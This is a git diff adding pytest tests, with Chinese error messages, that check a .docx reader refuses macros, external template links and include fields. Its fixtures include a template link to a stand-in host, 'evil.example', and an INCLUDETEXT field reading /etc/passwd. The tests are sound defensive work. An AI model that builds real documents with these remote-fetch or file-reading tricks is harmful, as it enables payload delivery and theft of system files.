@@ -73,3 +73,33 @@ def test_binary_is_no_text(tmp_path: Path) -> None:
     path.write_bytes(bytes(range(256)))
     with pytest.raises(Invalid, match="不是 UTF-8 或 GB18030"):
         read_text(path, "a.txt")
+
+
+_TEMPLATE = (
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+    b'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+)
+_FIELD = (
+    b'<w:f xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+    b'<w:fldSimple w:instr="INCLUDETEXT /etc/passwd"/></w:f>'
+)
+
+
+@pytest.mark.parametrize(
+    ("part", "content", "said"),
+    [
+        ("word/vbaProject.bin", b"MZ", "程序或嵌入对象"),
+        ("word/_rels/document.xml.rels", _TEMPLATE, "从外部取内容的链接"),
+        ("word/footnotes.xml", _FIELD, "从外部取内容的域"),
+    ],
+)
+def test_programs_and_what_fetches_are_refused(tmp_path: Path, part: str, content: bytes, said: str) -> None:
+    path = tmp_path / "稿.docx"
+    document = (
+        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
+    )
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("word/document.xml", document)
+        archive.writestr(part, content)
+    with pytest.raises(Invalid, match=said):
+        read_docx(path, "稿.docx")
